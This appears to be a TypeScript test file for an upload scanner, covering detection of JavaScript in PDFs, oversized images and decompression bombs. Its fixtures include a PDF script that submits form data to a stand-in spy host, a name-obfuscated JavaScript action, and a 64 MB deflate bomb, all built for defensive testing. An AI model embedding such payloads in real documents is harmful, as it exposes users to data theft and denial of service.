import { Readable } from 'node:stream';
import { deflateSync } from 'node:zlib';
import { PDFDocument } from '@cantoo/pdf-lib';
import { jpeg, pdf, png } from './fixtures';
import { inspectUpload, type Inspection } from './inspect-upload';
import { readPdfFacts } from './pdf/pdf-facts';
import { hasPdfScript } from './pdf/pdf-scripts';

const megabyte = 1024 * 1024;

/** The same bytes, and how many of them were asked for. */
function counted(bytes: Buffer) {
  const counter = { read: 0 };
  const open = async (range?: { start: number; end: number }): Promise<Readable> => {
    const piece = range ? bytes.subarray(range.start, range.end + 1) : bytes;
    counter.read += piece.length;
    return Readable.from([piece]);
  };
  return { counter, open };
}

async function look(fileName: string, bytes: Buffer): Promise<{ result: Inspection; read: number }> {
  const { counter, open } = counted(bytes);
  return { result: await inspectUpload({ fileName, bytes: bytes.length, open }), read: counter.read };
}

/** The head of a PNG (ISO/IEC 15948, 11.2.1) or of a JPEG (ITU-T T.81, B.2.2) that claims 30,000 by 30,000 pixels. */
const hugePng = Buffer.from(png);
hugePng.writeUInt32BE(30_000, 16);
hugePng.writeUInt32BE(30_000, 20);
const size = Buffer.from('ffc0001108753075300301220002110103110100', 'hex');
const hugeJpeg = Buffer.concat([jpeg.subarray(0, 20), size, jpeg.subarray(20)]);

describe('a PDF with JavaScript', () => {
  const isScripted = (bytes: Buffer): Promise<boolean> => hasPdfScript(bytes.length, counted(bytes).open);
  async function scripted(useObjectStreams: boolean): Promise<Buffer> {
    const document = await PDFDocument.create();
    document.addPage();
    document.addJavaScript('alerta', 'app.alert("oi"); this.submitForm("https://espia.exemplo/");');
    return Buffer.from(await document.save({ useObjectStreams }));
  }

  it.each([true, false])('is taken, and known for it; packed: %s', async (packed) => {
    const bytes = await scripted(packed);
    expect((await look('formulario.pdf', bytes)).result).toMatchObject({ mediaType: 'application/pdf' });
    expect(await isScripted(bytes)).toBe(true);
    expect(await isScripted(await pdf({ useObjectStreams: packed }))).toBe(false);
  });

  it('is known at either end of a large file, and under a name in disguise', async () => {
    const filling = Buffer.alloc(20 * megabyte, '0');
    const action = Buffer.from('<< /S /J#61vaScript >>');
    expect(await isScripted(Buffer.concat([action, filling]))).toBe(true);
    expect(await isScripted(Buffer.concat([filling, action]))).toBe(true);
    expect(await isScripted(Buffer.concat([filling, Buffer.from('/JavaScripting /Type')]))).toBe(false);
    for (const before of [384, 512].flatMap((kib) => [kib * 1024 - 9, kib * 1024]))
      expect(await isScripted(Buffer.concat([filling.subarray(0, before), action, filling]))).toBe(true);
  });

  it('is known inside a packed object stream', async () => {
    const inside = deflateSync(Buffer.from('7 0 << /S /JavaScript /JS (app.alert(1)) >>'));
    const packed = Buffer.concat([
      Buffer.from(`<< /Type /ObjStm /Length ${inside.length} >>\nstream\r\n`),
      inside,
      Buffer.from('\nendstream'),
    ]);
    expect(packed.includes('/JavaScript')).toBe(false);
    expect(await isScripted(packed)).toBe(true);
  });

  it('is looked for in what cannot be unpacked, or unpacks without end, without harm', async () => {
    const endless = deflateSync(Buffer.alloc(64 * megabyte));
    for (const body of [Buffer.from('not packed'), endless, Buffer.alloc(0)]) {
      const bytes = Buffer.concat([Buffer.from('<< /Type /ObjStm >>\nstream\n'), body]);
      expect(await isScripted(bytes)).toBe(false);
    }
  });
});

describe('a PDF of 10,000 pages', () => {
  let large: Buffer;
  beforeAll(async () => {
    large = await pdf({ pages: 10_000, useObjectStreams: false });
  });

  it('is taken by its ends, whatever lies between them', async () => {
    const { result, read } = await look('processo.pdf', large);
    expect(result).toMatchObject({ mediaType: 'application/pdf' });
    expect(large.length).toBeGreaterThan(megabyte);
    expect(read).toBeLessThan(megabyte / 4);
  });

  it('says of itself what it says without being held in memory', async () => {
    const padded = Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(5 * megabyte, '%\n'), large]);
    const { counter, open } = counted(padded);
    await readPdfFacts(padded.length, open);
    expect(counter.read).toBeLessThan(megabyte / 4);
  });
});

it.each([
  ['foto.png', hugePng, 'image/png'],
  ['foto.jpg', hugeJpeg, 'image/jpeg'],
])('a picture of 30,000 by 30,000 is never unpacked: %s', async (name, bytes, mediaType) => {
  const padded = Buffer.concat([bytes.subarray(0, 33), Buffer.alloc(megabyte), bytes.subarray(33)]);
  const { result, read } = await look(name, padded);
  expect(result).toMatchObject({ mediaType });
  expect(read).toBeLessThan(megabyte / 4);
});
